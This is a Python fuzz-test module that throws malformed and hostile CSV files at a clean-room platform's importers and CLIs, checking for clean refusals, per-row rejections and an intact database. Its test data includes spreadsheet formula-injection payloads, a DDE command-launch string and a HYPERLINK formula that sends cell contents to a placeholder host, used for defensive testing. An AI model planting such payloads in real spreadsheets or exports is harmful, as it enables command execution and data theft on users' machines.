"""Hostile CSV files against both importers: a clear refusal or per-row rejections, never a crash.

Targets, each fed files that Hypothesis builds byte by byte: random bytes, invalid UTF-8,
byte-order marks (also in the middle), NULs, fields past the csv module's size limit, embedded
newlines and quotes, missing, extra, duplicate and blank columns, formula injection
(``=cmd|' /C calc'!A0``, ``+``, ``-``, ``@``), very long lines, LF/CRLF/CR mixed in one file,
an empty file and a header alone:

- the platform: :func:`~cleanroom.store.importer.import_platform_csv` and
  :func:`~cleanroom.store.consent.import_consent_csv`, into one real SQLite store;
- the advertiser: :func:`~cleanroom.advertiser.read_customer_list` then
  :func:`~cleanroom.advertiser.prepare_list`;
- the real CLIs: ``cleanroom platform import --rejects`` (a subprocess) and ``cleanroom match``.

Asserted for every file: the only exception is :class:`~cleanroom.errors.ImportFailed` (a
:class:`~cleanroom.errors.CleanroomError`) whose message names the file; otherwise every row is
accounted for (imported, unchanged or rejected with its line number and a known reason). A
refused file writes nothing (row counts and audit log unchanged); after every file the store
passes ``PRAGMA integrity_check``, its audit chain verifies, and no identifier from a
never-permitted source is eligible. The advertiser's problem reports never quote an identifier.

Examples per run: 120 platform files, 80 consent files, 120 customer lists; the CLI cases are
fixed. ``CLEANROOM_FUZZ_EXAMPLES=N`` runs N examples per target instead.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import event, example, given, settings
from hypothesis import strategies as st

from cleanroom.advertiser import REASONS, prepare_list, read_customer_list
from cleanroom.cli import main
from cleanroom.errors import CleanroomError, ImportFailed
from cleanroom.store import audit
from cleanroom.store.consent import import_consent_csv
from cleanroom.store.database import Database, init_database, open_database
from cleanroom.store.eligibility import NEVER_PERMITTED_SOURCES
from cleanroom.store.importer import REJECTION_REASONS, import_platform_csv

_OVERRIDE = int(os.environ.get("CLEANROOM_FUZZ_EXAMPLES", "0"))


def examples(default: int) -> int:
    """Examples for one fuzz target: ``default`` unless CLEANROOM_FUZZ_EXAMPLES says otherwise."""
    return _OVERRIDE or default


CLEANROOM = Path(sys.executable).with_name("cleanroom")
MARK = "zqxmark"  # in identifier cells, so a report that quotes one is caught
PLATFORM_COLUMNS = ["user_id", "type", "value", "source", "ads_matching_consent"]
PLATFORM_OPTIONAL = ("consent_at", "revoked_at", "expires_at")
CONSENT_COLUMNS = ["user_id", "purpose", "value"]
CONSENT_OPTIONAL = ("type", "at")
LIST_COLUMNS = ["record_id", "email", "phone", "maid", "marketing_consent"]
FORMULA_START = ("=", "+", "-", "@")

# -- hostile cells, rows and files --------------------------------------------------------------

hostile_text = st.one_of(
    st.sampled_from(
        [
            "=cmd|' /C calc'!A0",
            '=HYPERLINK("http://x.example/?"&A1,"click")',
            "+1-555-0100",
            "-2+3",
            "@SUM(A1:A9)",
            "\x00",
            "a\x00b",
            '"',
            'say "hi"',
            "line\nbreak",
            "cr\ronly",
            "crlf\r\ninside",
            "\ufeff",
            "\u202eevil\u202c",
            "\u200b",
            "😀",
            " ",
            "",
        ]
    ),
    st.text(max_size=30),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=12),
)
valid_looking = st.sampled_from(
    [
        "u1",
        "u2",
        "email",
        "phone",
        "maid",
        "EMAIL",
        "signup",
        "profile",
        "two_factor",
        "recovery",
        "security",
        "contact_upload",
        "true",
        "false",
        "yes",
        "revoked",
        "2024-01-02T03:04:05Z",
        "2024-13-45",
        "ads_matching",
        "sale_opt_out",
        f"jane.{MARK}@gmail.com",
        f"{MARK}@",
        "+14155552671",
        f"+1415555{MARK}",
        "6ba7b810-9dad-11d1-80b4-00c04fd430c8",
        "00000000-0000-0000-0000-000000000000",
    ]
)
cells = st.one_of(valid_looking, valid_looking, hostile_text)
# A field past csv.field_size_limit() (131072), rarely: it costs time.
huge_cell = st.integers(131_073, 140_000).map(lambda n: "x" * n)


@dataclass(frozen=True)
class HostileFile:
    """The file's bytes and, for the report, how they were built."""

    content: bytes
    recipe: str


@st.composite
def hostile_files(
    draw: st.DrawFn,
    columns: list[str],
    optional: tuple[str, ...] = (),
    fields: dict[str, st.SearchStrategy[str]] | None = None,
) -> HostileFile:
    """A CSV-ish file: a (possibly broken) header, rows of hostile cells, mixed line endings.

    ``fields`` gives plausible values per column, so that many rows get past the first check and
    the hostile cell among them reaches the later ones.
    """
    kind = draw(st.sampled_from(["random", "empty", "header-only", "table", "table", "table"]))
    if kind == "random":
        return HostileFile(draw(st.binary(max_size=400)), "random bytes")
    if kind == "empty":
        return HostileFile(draw(st.sampled_from([b"", b"\n", b"\r\n", b"\xef\xbb\xbf"])), "empty")
    header = list(columns)
    if optional:
        header += draw(st.lists(st.sampled_from(optional), unique=True))
    header_damage = draw(
        st.sampled_from(["none"] * 4 + ["missing", "extra", "duplicate", "case", "blank"])
    )
    if header_damage == "missing":
        del header[draw(st.integers(0, len(header) - 1))]
    elif header_damage == "extra":
        header.insert(
            draw(st.integers(0, len(header))), draw(st.sampled_from(["", "extra", "=1+1"]))
        )
    elif header_damage == "duplicate":
        header.append(draw(st.sampled_from(header)))
    elif header_damage == "case":
        header = [f" {name.upper()} " for name in header]
    elif header_damage == "blank":
        header = ["" for _ in header]
    plausible = fields or {}
    ragged = st.lists(cells, max_size=len(header) + 2)
    if draw(st.booleans()):
        # Plausible rows with hostile cells among them.
        column_cells = [plausible.get(name.strip().lower(), cells) | cells for name in header]
        rows = draw(st.lists(st.tuples(*column_cells).map(list) | ragged, max_size=8))
    else:
        # Plausible rows around one hostile row: the file gets past its first rows.
        column_cells = [plausible.get(name.strip().lower(), cells) for name in header]
        rows = draw(st.lists(st.tuples(*column_cells).map(list), min_size=1, max_size=8))
        rows.insert(draw(st.integers(0, len(rows))), draw(ragged))
    if rows and rows[0] and draw(st.integers(0, 9)) == 0:
        rows[0][0] = draw(huge_cell)
    quoting = draw(st.sampled_from(["csv", "raw"]))
    endings = draw(st.lists(st.sampled_from(["\n", "\r\n", "\r"]), min_size=1, max_size=3))
    lines = []
    for number, row in enumerate([header, *rows]):
        if quoting == "csv":
            buffer = io.StringIO()
            csv.writer(buffer, lineterminator="").writerow(row)
            line = buffer.getvalue()
        else:  # commas and quotes as they come: broken quoting included
            line = ",".join(row)
        lines.append(line + endings[number % len(endings)])
    text = "".join(lines)
    bom = draw(st.sampled_from(["", "", "", "\ufeff", "\ufeff\ufeff"]))
    data = (bom + text).encode("utf-8", "surrogatepass")
    damage = draw(
        st.sampled_from(["none"] * 4 + ["bad-utf8", "truncated-utf8", "nul", "long-line"])
    )
    if damage == "bad-utf8":
        at = draw(st.integers(0, len(data)))
        data = (
            data[:at]
            + draw(st.sampled_from([b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\x80"]))
            + data[at:]
        )
    elif damage == "truncated-utf8":
        data += b"\xe2\x82"
    elif damage == "nul":
        at = draw(st.integers(0, len(data)))
        data = data[:at] + b"\x00" + data[at:]
    elif damage == "long-line":
        data += b"u9,email," + b"a" * 70_000 + b"@example.com,signup,true\n"
    return HostileFile(data, f"{header_damage} header, {quoting}, {damage}")


identifiers = st.sampled_from(
    [
        f"jane.{MARK}@gmail.com",
        f"Jane.{MARK}+ads@Gmail.com",
        f"{MARK}@example.com",
        f"{MARK}@",
        "+14155552671",
        "(415) 555-2671",
        f"+1415555{MARK}",
        "6ba7b810-9dad-11d1-80b4-00c04fd430c8",
        "00000000-0000-0000-0000-000000000000",
        "=cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
    ]
)
timestamps = st.sampled_from(["", "2024-01-02T03:04:05Z", "2024-01-02", "2030-01-01", "2024-13-45"])
consents = st.sampled_from(["true", "false", "yes", "no", "1", "0", "granted", "revoked", "maybe"])
users = st.sampled_from(["u1", "u2", "u3", "u4", "u9", " u1 "])
PLATFORM_FIELDS = {
    "user_id": users,
    "type": st.sampled_from(["email", "phone", "maid", "EMAIL", "fax"]),
    "value": identifiers,
    "source": st.sampled_from(
        ["signup", "profile", "checkout", "two_factor", "recovery", "security", "contact_upload"]
    ),
    "ads_matching_consent": consents,
    "consent_at": timestamps,
    "revoked_at": timestamps,
    "expires_at": timestamps,
}
CONSENT_FIELDS = {
    "user_id": users,
    "purpose": st.sampled_from(["ads_matching", "sale_opt_out", "targeted_ads_opt_out", "spam"]),
    "value": consents,
    "type": st.sampled_from(["", "email", "phone", "maid", "fax"]),
    "at": timestamps,
}
LIST_FIELDS = {
    "record_id": st.sampled_from(["1", "2", "3", "4", "", "1 "]),
    "email": identifiers,
    "phone": identifiers,
    "maid": identifiers,
    "marketing_consent": consents,
}

# -- the platform store ---------------------------------------------------------------------------


@dataclass
class Store:
    db: Database
    folder: Path
    files: Iterator[int]

    def write(self, data: bytes) -> Path:
        path = self.folder / f"hostile-{next(self.files)}.csv"
        path.write_bytes(data)
        return path


def _counter() -> Iterator[int]:
    number = 0
    while True:
        number += 1
        yield number


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    folder = tmp_path_factory.mktemp("fuzz-csv")
    db, _ = init_database(folder / "platform.db")
    seed = folder / "seed.csv"
    seed.write_text(
        "user_id,type,value,source,ads_matching_consent\n"
        "u1,email,jane@example.com,signup,true\n"
        "u2,phone,+14155552671,two_factor,true\n"
        "u3,maid,6ba7b810-9dad-11d1-80b4-00c04fd430c8,signup,true\n"
    )
    import_platform_csv(db, seed)
    try:
        yield Store(db, folder, _counter())
    finally:
        db.close()


def _snapshot(db: Database) -> tuple[int, ...]:
    conn = db.conn
    return tuple(
        int(conn.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0])
        for table in ("users", "identifiers", "audit_log")
    )


def assert_store_intact(db: Database) -> None:
    assert db.conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    audit.verify(db)
    # Whatever a file claims, security-collected identifiers never become eligible.
    placeholders = ",".join("?" * len(NEVER_PERMITTED_SOURCES))
    leaked = db.conn.execute(
        "SELECT COUNT(*) FROM eligible_identifiers AS e JOIN identifiers AS i "
        f"ON i.id = e.identifier_id WHERE i.source IN ({placeholders})",
        sorted(NEVER_PERMITTED_SOURCES),
    ).fetchone()[0]
    assert leaked == 0


def assert_clear_refusal(error: CleanroomError, path: Path) -> None:
    assert isinstance(error, ImportFailed), repr(error)
    assert str(path) in str(error)
    # For --hypothesis-show-statistics: which refusals the fuzz reached.
    event("refused: " + str(error).replace(str(path), "FILE").split(";")[0][:50])


@settings(max_examples=examples(120))
@given(file=hostile_files(PLATFORM_COLUMNS, PLATFORM_OPTIONAL, PLATFORM_FIELDS))
@example(file=HostileFile(b"", "empty"))
@example(file=HostileFile(b"user_id,type,value,source,ads_matching_consent\r\n", "header only"))
@example(
    file=HostileFile(
        b'user_id,type,value,source,ads_matching_consent\nu7,email,"a\nb@x.com",signup,true\r'
        b"u8,email,=cmd|' /C calc'!A0,recovery,true\r\nu9,phone,+14155550100,two_factor,yes\n",
        "embedded newline, CR/CRLF mix, formula, never-permitted sources",
    )
)
def test_a_hostile_platform_file_is_refused_or_imported_row_by_row(
    store: Store, file: HostileFile
) -> None:
    path = store.write(file.content)
    before = _snapshot(store.db)
    try:
        report = import_platform_csv(store.db, path)
    except CleanroomError as error:
        assert_clear_refusal(error, path)
        assert _snapshot(store.db) == before  # refused before anything was written
    else:
        accepted = report.added + report.updated + report.unchanged
        assert report.rows == accepted + sum(report.rejected.values()), report
        assert set(report.rejected) <= set(REJECTION_REASONS)
        for rejection in report.examples:
            assert rejection.row >= 2 and rejection.detail  # line 1 is the header
        event(f"imported: {'some' if accepted else 'no'} rows accepted")
        for reason in report.rejected:
            event(f"rejected: {reason}")
        users, identifiers, _ = _snapshot(store.db)
        assert (users, identifiers) >= before[:2]
    assert_store_intact(store.db)


@settings(max_examples=examples(80))
@given(file=hostile_files(CONSENT_COLUMNS, CONSENT_OPTIONAL, CONSENT_FIELDS))
def test_a_hostile_consent_file_is_refused_or_applied_row_by_row(
    store: Store, file: HostileFile
) -> None:
    path = store.write(file.content)
    before = _snapshot(store.db)
    try:
        report = import_consent_csv(store.db, path)
    except CleanroomError as error:
        assert_clear_refusal(error, path)
        assert _snapshot(store.db) == before
    else:
        # Consent changes never add users or identifiers.
        assert _snapshot(store.db)[:2] == before[:2]
        assert sum(report.rejected.values()) <= report.rows
        for rejection in report.examples:
            assert rejection.row >= 2 and rejection.detail
        event(f"applied: {report.identifiers_changed + report.users_changed} changes")
        for reason in report.rejected:
            event(f"rejected: {reason}")
    assert_store_intact(store.db)


# -- the advertiser's list ---------------------------------------------------------------------


@settings(max_examples=examples(120))
@given(file=hostile_files(LIST_COLUMNS, fields=LIST_FIELDS))
@example(file=HostileFile(b"\xef\xbb\xbfrecord_id,email,marketing_consent\r\n", "BOM, header only"))
@example(
    file=HostileFile(
        b"record_id,email,marketing_consent\n1,=cmd|' /C calc'!A0,yes\n1,zqxmark@,yes\n"
        b'2,"multi\nline@x.com",yes\r3,\x00@x.com,yes\n',
        "duplicate id, formula, NUL, embedded newline",
    )
)
def test_a_hostile_customer_list_is_refused_or_read_with_each_problem_reported(
    file: HostileFile,
) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "customers.csv"
        path.write_bytes(file.content)
        try:
            customers = read_customer_list(path)
        except CleanroomError as error:
            assert_clear_refusal(error, path)
            return
        prepared = prepare_list(customers, default_region="US")
    kept = len(customers.rows)
    assert customers.records_read == kept + customers.without_consent + len(customers.problems)
    assert len(prepared.messages) == len(prepared.record_ids)
    assert prepared.records_sent + prepared.rows_rejected - len(customers.problems) == kept
    event(f"read: {'some' if prepared.records_sent else 'no'} records sent")
    for problem in prepared.problems:
        event(f"problem: {problem.reason}")
        assert problem.row >= 2 and problem.reason in REASONS
        assert MARK not in problem.detail, problem  # reports never quote an identifier


# -- the real CLIs -------------------------------------------------------------------------------

HOSTILE_PLATFORM_FILE = (
    b"\xef\xbb\xbfuser_id,type,value,source,ads_matching_consent\r\n"
    b"u1,email,=cmd|' /C calc'!A0,signup,true\n"
    b"u2,=HYPERLINK(1),a@example.com,signup,true\r"
    b"u3,email,b@example.com,@SUM(A1),true\n"
    b'u4,email,"c\nd@example.com",signup,-1+1\n'
    b"u5,phone,+14155552671,two_factor,true\n"
    b"u6,email," + b"x" * 140_000 + b"@example.com,signup,true\n"
    b'u7,email,"unterminated,signup,true\n'
)


def test_the_platform_cli_reports_hostile_rows_without_a_traceback_or_a_formula(
    tmp_path: Path,
) -> None:
    db = tmp_path / "platform.db"
    assert main(["platform", "init", "--db", str(db)]) == 0
    hostile = tmp_path / "hostile.csv"
    hostile.write_bytes(HOSTILE_PLATFORM_FILE)
    rejects = tmp_path / "rejects.csv"
    done = subprocess.run(
        [
            str(CLEANROOM),
            "platform",
            "import",
            "--db",
            str(db),
            str(hostile),
            "--rejects",
            str(rejects),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stdout + done.stderr
    with rejects.open(newline="", encoding="utf-8") as stream:
        table = list(csv.reader(stream))
    assert table[0] == ["row", "column", "reason", "detail"] and len(table) > 2
    for row in table[1:]:
        # The rejects file is opened in spreadsheets: no cell may start a formula.
        assert not any(cell.startswith(FORMULA_START) for cell in row), row
        assert row[2] in REJECTION_REASONS

    # A file that is not UTF-8 is refused whole, with a message naming where, and no traceback.
    broken = tmp_path / "broken.csv"
    broken.write_bytes(b"user_id,type,value,source,ads_matching_consent\nu1,email,\xff@x.com,,\n")
    with open_database(db) as database:
        before = _snapshot(database)
    done = subprocess.run(
        [str(CLEANROOM), "platform", "import", "--db", str(db), str(broken)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode != 0
    assert "not UTF-8" in done.stderr and "line 2" in done.stderr
    assert "Traceback" not in done.stdout + done.stderr
    with open_database(db) as database:
        assert _snapshot(database) == before
        assert_store_intact(database)


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"record_id,record_id,email,marketing_consent\n1,1,a@x.com,yes\n",
        b"record_id,email\n1,a@x.com\n",
        b"record_id,email,marketing_consent\n1,\xc3\x28@x.com,yes\n",
        b"record_id,email,marketing_consent\n1," + b"y" * 140_000 + b",yes\n",
    ],
    ids=["empty", "duplicate-column", "no-consent-column", "bad-utf8", "huge-field"],
)
def test_the_match_cli_refuses_a_hostile_list_before_connecting(
    tmp_path: Path, content: bytes, capsys: pytest.CaptureFixture[str]
) -> None:
    customers = tmp_path / "customers.csv"
    customers.write_bytes(content)
    # Nothing listens on port 1: the list must be refused before any connection is tried.
    code = main(
        [
            "match",
            "--server",
            "127.0.0.1:1",
            "--insecure",
            "--input",
            str(customers),
            "--mode",
            "count",
            "--workers",
            "1",
        ]
    )
    captured = capsys.readouterr()
    assert code != 0
    assert str(customers) in captured.err
    assert "Traceback" not in captured.out + captured.err
    assert "127.0.0.1:1" not in captured.err  # never got as far as the network
